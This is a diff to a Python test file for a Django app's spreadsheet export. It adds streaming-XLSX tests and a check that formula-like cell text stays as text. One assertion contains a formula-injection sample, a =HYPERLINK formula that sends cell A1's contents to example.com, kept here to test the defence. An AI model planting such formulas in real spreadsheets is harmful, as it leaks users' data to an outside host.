@@ -58,8 +58,8 @@ def test_a_text_that_looks_like_a_formula_is_written_as_text_wherever_it_stands(
                    above=[HOSTILE[1]], percent_columns=(1,))
     found = cells(content)
     assert [c for c in found if c.data_type == "f"] == []
-    hostile = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@\t\n"]
-    assert len(hostile) == 2 + len(HOSTILE)
+    hostile = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
+    assert len(hostile) == 2 + len(HOSTILE)  # the carriage return comes back as typed
     for cell in hostile:
         assert_kept_as_text(cell)
     assert found[2].value == HOSTILE[0] and found[4].value == "=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")"
@@ -83,3 +83,66 @@ def test_the_import_templates_keep_formula_like_text_as_text():
     for cell in hostile:
         assert_kept_as_text(cell)
     assert template_csv(columns).decode("utf-8") == "\ufeff'=ma,ten\r\n"
+
+
+# -- streaming: the same workbook, sent while it is written ---------------------------------------
+MIXED = [["Nguyễn Thị Ánh", 3, 2.5, dt.date(2026, 1, 31), dt.datetime(2026, 2, 1, 7, 30), None, True],
+         ["  lề trái, <thẻ> & \"ngoặc\" ", -7, 0.125, None, dt.datetime(2025, 12, 31, 23, 59), "", False],
+         ["dòng\nmới", 10**12, -1e-9, dt.date(1999, 1, 1), None, "=1+1", None]]
+
+
+def openpyxl_rows(title, header, rows, above=()):
+    """The rows as openpyxl's own writer (the one used before streaming) stores them, read back."""
+    from openpyxl import Workbook
+
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet(title)
+    for values in ([list(above)] if above else []) + [list(header)] + [list(r) for r in rows]:
+        sheet.append(values)
+    out = io.BytesIO()
+    book.save(out)
+    return list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
+
+
+def test_the_streamed_workbook_reads_back_as_openpyxl_writes_it():
+    header = ["Tên", "Số", "Thực", "Ngày", "Lúc", "Trống", "Có"]
+    content = xlsx("Hỗn hợp", header, MIXED, above=["Địa bàn chưa có người phụ trách", "Xã A"])
+    got = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+    expected = openpyxl_rows("Hỗn hợp", header, [[None if v == "" else v for v in r] for r in MIXED],
+                             above=["Địa bàn chưa có người phụ trách", "Xã A"])
+    assert got == expected
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert sheet["D3"].number_format == "dd/mm/yyyy" and sheet["E3"].number_format == "dd/mm/yyyy hh:mm"
+
+
+def test_a_row_longer_than_the_header_keeps_every_cell():
+    rows = list(load_workbook(io.BytesIO(xlsx("Dài", ["A"], [[1, 2, 3], ["x"]]))).active.iter_rows(values_only=True))
+    assert rows == [("A", None, None), (1, 2, 3), ("x", None, None)]
+
+
+def test_a_download_streams_while_the_rows_are_read_and_in_the_request_language():
+    from django.utils import translation
+    from django.utils.translation import gettext_lazy
+
+    from gandan.core.tabular import FLUSH_ROWS, xlsx_download
+
+    read = []
+
+    def rows():
+        for i in range(3 * FLUSH_ROWS):
+            read.append(i)
+            yield [f"H{i:05d}", gettext_lazy("có"), i]
+
+    with translation.override("en"):
+        response = xlsx_download("cho-trong.xlsx", "Chỗ trống", ["Mã", "Có", "Số"], rows())
+    assert response.streaming and response["Content-Type"] == XLSX_TYPE
+    assert response["Content-Disposition"] == 'attachment; filename="cho-trong.xlsx"'
+    stream = iter(response.streaming_content)
+    chunks = [next(stream)]
+    assert read == [], "the download starts before the first row is read"
+    chunks.append(next(stream))
+    assert len(read) < 3 * FLUSH_ROWS, "and goes on while the rows are read"
+    chunks += list(stream)
+    values = list(load_workbook(io.BytesIO(b"".join(chunks))).active.iter_rows(values_only=True))
+    assert len(values) == 1 + 3 * FLUSH_ROWS and values[1] == ("H00000", "yes", 0)
+    assert values[-1] == (f"H{3 * FLUSH_ROWS - 1:05d}", "yes", 3 * FLUSH_ROWS - 1)
